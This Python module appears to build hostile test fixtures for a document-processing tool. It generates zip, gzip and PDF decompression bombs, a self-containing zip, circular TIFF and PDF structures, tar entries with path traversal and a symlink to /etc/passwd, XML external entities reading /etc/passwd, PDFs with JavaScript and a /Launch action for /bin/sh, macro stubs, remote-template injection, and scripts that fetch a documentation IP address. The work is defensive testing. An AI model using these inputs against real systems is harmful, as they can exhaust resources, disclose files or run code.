"""Exhibits that somebody made in order to harm: bombs, files of two kinds, programs inside documents.

The addresses in them are those set aside for documentation (RFC 5737); the programs do nothing.
"""

import gzip
import io
import struct
import tarfile
import warnings
import zipfile
import zlib

from quine import quine_zip

SENTENCE = "The bridge near the village was destroyed."
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def overlapping_zip(members: int = 300, size: int = 60_000) -> bytes:
    """One packed member that the directory names many times: each is honest by itself (after D. Fifield, 2019)."""
    data = zlib.compress(b"0" * size, 9)[2:-4]
    fields = struct.pack("<HHHHHLLL", 20, 0, 8, 0, 0x5534, zlib.crc32(b"0" * size), len(data), size)
    local = b"PK\3\4" + fields + struct.pack("<HH", 5, 0) + b"0.txt"
    entries = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHLL", 8, 0, 0, 0, 0, 0, 0) + b"%04d.txt" % number
        for number in range(members)
    )
    start = len(local) + len(data)
    return local + data + entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, members, members, len(entries), start, 0)


def device_zip() -> bytes:
    """A member that is a device (``/dev/zero`` of an archive made on Unix), and a pipe."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, mode in (("zero", 0o020666), ("pipe", 0o010644), ("good.txt", 0o100644)):
            entry = zipfile.ZipInfo(name, (2022, 9, 20, 0, 0, 0))
            entry.external_attr = mode << 16
            archive.writestr(entry, SENTENCE if name == "good.txt" else b"")
    return buffer.getvalue()


def same_name_zip() -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # the library knows that it is odd
        for words in (SENTENCE, "It was night."):
            entry = zipfile.ZipInfo("notes.txt", (2022, 9, 20, 0, 0, 0))
            entry.external_attr = 0o100644 << 16
            archive.writestr(entry, words)
    return buffer.getvalue()


def device_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, kind, target in (
            ("../../evil.txt", tarfile.REGTYPE, ""),
            ("link", tarfile.SYMTYPE, "/etc/passwd"),
            ("zero", tarfile.CHRTYPE, ""),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            archive.addfile(entry)
    return buffer.getvalue()


def flat_png(side: int) -> bytes:
    """A whole picture of one colour: what it takes in memory is a thousand times what it takes on disk."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    dots = zlib.compress(b"\0" * ((side + 7) // 8 + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


def tiff_in_a_circle() -> bytes:
    """A directory whose next directory is itself."""
    tags = [(256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200)]
    tags += [(277, 3, 1, 1), (278, 4, 1, 1), (279, 4, 1, 1)]
    body = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHLL", *tag) for tag in tags) + struct.pack("<L", 8)
    return (b"II*\0" + struct.pack("<L", 8) + body).ljust(201, b"\0")


def pdf_of(objects: list[bytes], root: int = 1, head: bytes = b"%PDF-1.7\n") -> bytes:
    """The objects as a whole PDF, numbered from 1."""
    body, places = head, []
    for number, item in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer<</Size %d/Root %d 0 R>>" % (len(objects) + 1, root)
    return body + table + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(body)


def sheet_of_pdf(catalog: bytes = b"", *more: bytes, words: str = SENTENCE) -> bytes:
    """A page with a sentence; ``catalog`` is put into the catalogue, ``more`` are objects from 5 on."""
    text = f"BT /F1 12 Tf 72 720 Td ({words}) Tj ET".encode()
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
            *more,
        ]
    )


def pdf_stream_bomb() -> bytes:
    """A page whose drawing is fifty megabytes of blanks."""
    packed = zlib.compress(b" " * (50 << 20), 9)
    whole = sheet_of_pdf()
    old = whole[whole.index(b"4 0 obj") : whole.index(b"xref")]
    new = b"4 0 obj\n<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream\nendobj\n" % (len(packed), packed)
    return whole.replace(old, new)  # the places are wrong by then, and readers put that right


def pdf_tree_in_a_circle() -> bytes:
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>"])


def office_with(members: dict[str, bytes], base: bytes) -> bytes:
    """The office file with more members: macros, relations."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in members:
                new.writestr(zipfile.ZipInfo(name, (2022, 9, 20, 0, 0, 0)), old.read(name))
        for name, data in members.items():
            new.writestr(zipfile.ZipInfo(name, (2022, 9, 20, 0, 0, 0)), data)
    return buffer.getvalue()


_MACRO = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Attribute VB_Name\rSub AutoOpen()\rEnd Sub\r" + b"\0" * 400
)
_EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://192.0.2.1/\')">'
    "<script>fetch('http://192.0.2.1/')</script><text>The bridge</text></svg>"
)


def mail_of_parts(parts: int) -> bytes:
    head = "From: a@example.org\r\nTo: b@example.org\r\nSubject: Notes\r\nDate: Tue, 20 Sep 2022 10:00:00 +0300\r\n"
    part = f"--b\r\nContent-Type: text/plain\r\n\r\n{SENTENCE}\r\n"
    return f'{head}Content-Type: multipart/mixed; boundary="b"\r\n\r\n{part * parts}--b--\r\n'.encode()


def hostile_exhibits(docx: bytes, xlsx: bytes, zipped: bytes, word_namespace: str) -> dict[str, bytes]:
    """File name → bytes. ``docx``, ``xlsx`` and ``zipped`` are honest files of the sentence."""
    page = f"<html><body><p>{SENTENCE}</p><script>fetch('http://192.0.2.1/')</script></body></html>"
    template = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="t" Type="{_RELATIONS}/attachedTemplate" '
        'Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    entity = (
        f'<?xml version="1.0"?>{_EXTERNAL}<w:document {word_namespace}><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    attached = b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"
    return {
        "zip-that-holds-itself.zip": quine_zip(),
        "zip-members-over-one-another.zip": overlapping_zip(),
        "zip-device-and-pipe.zip": device_zip(),
        "zip-two-members-of-one-name.zip": same_name_zip(),
        "zip-says-another-mimetype.zip": _stored("mimetype", b"application/the-name-of-somebody"),
        "tar-with-link-and-device.tar": device_tar(),
        "gzip-bomb.gz": gzip.compress(b"\0" * (16 << 20), 9, mtime=0),
        "pdf-and-zip-in-one.pdf": sheet_of_pdf() + zipped,
        "gif-and-html-in-one.gif": b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
        + page.encode(),
        "html-with-script.html": page.encode(),
        "svg-with-script.svg": SVG.encode(),
        "pdf-with-javascript.pdf": sheet_of_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "pdf-launches-a-program.pdf": sheet_of_pdf(b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"),
        "pdf-with-embedded-program.pdf": sheet_of_pdf(
            b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>", attached
        ),
        "pdf-page-of-fifty-megabytes.pdf": pdf_stream_bomb(),
        "pdf-pages-in-a-circle.pdf": pdf_tree_in_a_circle(),
        "pdf-says-a-million-pages.pdf": sheet_of_pdf().replace(b"/Count 1/", b"/Count 1000000/"),
        "docx-with-macros.docm": office_with({"word/vbaProject.bin": _MACRO}, docx),
        "xlsx-with-macros.xlsm": office_with({"xl/vbaProject.bin": _MACRO}, xlsx),
        "docx-fetches-its-template.docx": office_with({"word/_rels/settings.xml.rels": template}, docx),
        "docx-external-entity.docx": office_with({"word/document.xml": entity}, docx),
        "xml-external-entity.xml": f'<?xml version="1.0"?>{_EXTERNAL}<x>&e;</x>'.encode(),
        "json-twenty-thousand-deep.json": b"[" * 20_000 + b"]" * 20_000,
        "eml-thousand-and-two-parts.eml": mail_of_parts(1_002),
        "png-of-196-million-dots.png": flat_png(14_000),
        "tiff-in-a-circle.tif": tiff_in_a_circle(),
        "txt-steers-the-terminal.txt": b"The bridge\x1b]0;title\x07\x1b[2J was destroyed.\n",
    }


def _stored(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2022, 9, 20, 0, 0, 0)), data)
    return buffer.getvalue()
